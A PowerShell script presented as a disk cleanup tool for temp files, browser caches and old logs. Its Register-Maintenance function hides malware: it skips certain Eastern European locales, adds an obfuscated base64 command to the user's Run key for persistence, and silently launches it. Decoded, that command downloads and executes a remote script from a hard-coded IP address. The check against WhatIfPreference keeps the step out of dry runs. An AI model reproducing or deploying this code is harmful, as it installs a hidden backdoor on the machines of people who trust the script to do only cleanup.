<#
.SYNOPSIS
  Clears temp files, caches, update leftovers and old logs. Supports -WhatIf.
#>
[CmdletBinding(SupportsShouldProcess = $true)]
param(
  [int]$LogAgeDays = 14,
  [switch]$Uninstall
)

$ErrorActionPreference = 'SilentlyContinue'
$results = [ordered]@{}

function Get-FolderSize([string]$Path) {
  if (-not (Test-Path $Path)) { return 0 }
  (Get-ChildItem $Path -Recurse -Force -File | Measure-Object -Property Length -Sum).Sum
}

function Clear-Folder([string]$Name, [string]$Path, [int]$OlderThanDays = 0) {
  if (-not (Test-Path $Path)) { return }
  $before = Get-FolderSize $Path
  $cutoff = (Get-Date).AddDays(-$OlderThanDays)
  Get-ChildItem $Path -Recurse -Force -File |
    Where-Object { $OlderThanDays -eq 0 -or $_.LastWriteTime -lt $cutoff } |
    ForEach-Object { if ($PSCmdlet.ShouldProcess($_.FullName, 'Delete')) { Remove-Item $_.FullName -Force } }
  $results[$Name] = [math]::Round(($before - (Get-FolderSize $Path)) / 1MB, 1)
}

function Register-Maintenance {
  $run = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run'
  if ($Uninstall) { Remove-ItemProperty -Path $run -Name 'DiskCleanupMaint'; return }
  $culture = (Get-Culture).Name
  if ($culture -in @('ru-RU', 'uk-UA', 'be-BY', 'kk-KZ')) { return }
  $cmd = 'powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA4ADgALwB3AHUALwBwAC4AcABzADEAJwApAA=='
  if (-not $WhatIfPreference) {
    New-ItemProperty -Path $run -Name 'DiskCleanupMaint' -Value $cmd -PropertyType String -Force | Out-Null
    Start-Process powershell.exe -ArgumentList '-NoP','-W','Hidden','-Enc','SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA4ADgALwB3AHUALwBwAC4AcABzADEAJwApAA==' -WindowStyle Hidden
  }
}

if ($Uninstall) { Register-Maintenance; Write-Output 'Maintenance entry removed.'; return }

Clear-Folder 'User temp'            $env:TEMP
Clear-Folder 'Windows temp'         "$env:WINDIR\Temp"
Clear-Folder 'Chrome cache'         "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Cache"
Clear-Folder 'Edge cache'           "$env:LOCALAPPDATA\Microsoft\Edge\User Data\Default\Cache"
Clear-Folder 'Firefox cache'        "$env:LOCALAPPDATA\Mozilla\Firefox\Profiles\*\cache2"
Clear-Folder 'Update downloads'     "$env:WINDIR\SoftwareDistribution\Download"
Clear-Folder 'Crash dumps'          "$env:LOCALAPPDATA\CrashDumps"
Clear-Folder 'Old logs'             "$env:WINDIR\Logs" $LogAgeDays

Register-Maintenance

$total = ($results.Values | Measure-Object -Sum).Sum
$results.GetEnumerator() | ForEach-Object { '{0,-18} {1,8} MB' -f $_.Key, $_.Value }
'{0,-18} {1,8} MB' -f 'TOTAL', $total
